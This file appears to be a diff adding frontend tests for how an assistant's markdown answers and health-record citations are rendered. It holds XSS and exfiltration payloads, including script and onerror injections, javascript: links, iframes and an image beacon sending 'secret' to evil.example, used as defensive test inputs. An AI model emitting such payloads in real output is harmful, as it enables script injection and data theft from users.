@@ -1,0 +1,58 @@
+import type { Citation } from '@arogo/contract/assistant';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { MemoryRouter } from 'react-router';
+import { expect, test } from 'vitest';
+import { AnswerText } from './answer-text.tsx';
+import { plainOf } from './plain.ts';
+
+const source: Citation = { n: 1, recordId: '00000000-0000-4000-8000-000000000001', fact: 'results.0', label: 'Lab report of 12 Mar 2026', healthType: 'PHYSICAL' };
+const shown = (text: string, citations: Citation[] = []): string =>
+  renderToStaticMarkup(
+    <MemoryRouter>
+      <AnswerText text={text} citations={citations} />
+    </MemoryRouter>,
+  );
+const bare = (html: string): string => html.replaceAll(/ (?:class|start)="[^"]*"/g, '');
+
+test.each([
+  ['paragraphs, bold, italics, code', 'Take **care**, *please*: `OD` &amp; rest.\n\nNow.', ['<p>Take <strong>care</strong>, <em>please</em>: <code>OD</code> &amp; rest.</p>', '<p>Now.</p>']],
+  ['lists', '- one\n- **two**\n\n3. three', ['<ul><li><span>one</span></li><li><span><strong>two</strong></span></li></ul>', '<ol><li><span>three</span></li></ol>']],
+  ['headings and tables', '# Tests\n\n| Name | Value |\n|---|---|\n| TSH | 2.1 |', ['<h3>Tests</h3>', '<th scope="col">Name</th>', '<td>2.1</td>']],
+])('of an answer are shown: %s', (_, text, expected) => {
+  for (const part of expected) expect(bare(shown(text))).toContain(part);
+});
+
+test.each([
+  ['<script>alert(1)</script>', '&lt;script&gt;'],
+  ['Hello <img src=x onerror=alert(1)> you', '&lt;img src=x'],
+  ['![pixel](https://evil.example/p.png?q=secret)', 'pixel'],
+  ['[here](javascript:alert(1))', '(javascript:alert(1))'],
+  ['[here](https://evil.example/)', 'here (https://evil.example/)'],
+  ['https://evil.example/ and <https://evil.example/>', 'https://evil.example/'],
+  ['[1]: https://evil.example/\n\n[1]', ''],
+  ['<iframe src="https://evil.example"></iframe>', '&lt;iframe'],
+])('nothing of an answer is live: %s', (text, words) => {
+  const html = shown(text);
+  expect(html).not.toMatch(/<(?:a|img|script|iframe|svg|style|form)\b/);
+  expect(html).toContain(words);
+});
+
+test("a citation's number opens the record at its line; a number without a source is a number", () => {
+  const html = shown('Your TSH was 2.1 [1], not [2].', [source]);
+  expect(html).toContain('href="/service/health-vault?record=00000000-0000-4000-8000-000000000001&amp;fact=results.0"');
+  expect(html).toContain('aria-label="Source 1: Lab report of 12 Mar 2026"');
+  expect(html).toContain('not [2].');
+});
+
+test('in plain words an answer has no signs, and says its sources', () => {
+  expect(plainOf([{ type: 'text', id: 'i', text: '## Tests\n\n**TSH** was `2.1` [1] [2]\n\n---', citations: [source] }])).toBe('Tests\n\nTSH was 2.1 [1]\n\n[1] Lab report of 12 Mar 2026');
+});
+
+test('a hostile text is shown, within a moment', () => {
+  const before = performance.now();
+  for (const text of ['> '.repeat(12) + 'deep', '- '.repeat(500) + 'deep', '*'.repeat(20_000), '['.repeat(20_000), '`'.repeat(20_000), '> '.repeat(2_000), '_a '.repeat(10_000), '|'.repeat(20_000), '**a '.repeat(8_000)]) {
+    shown(text);
+    plainOf([{ type: 'text', id: 'i', text, citations: [] }]);
+  }
+  expect(performance.now() - before).toBeLessThan(5_000);
+});
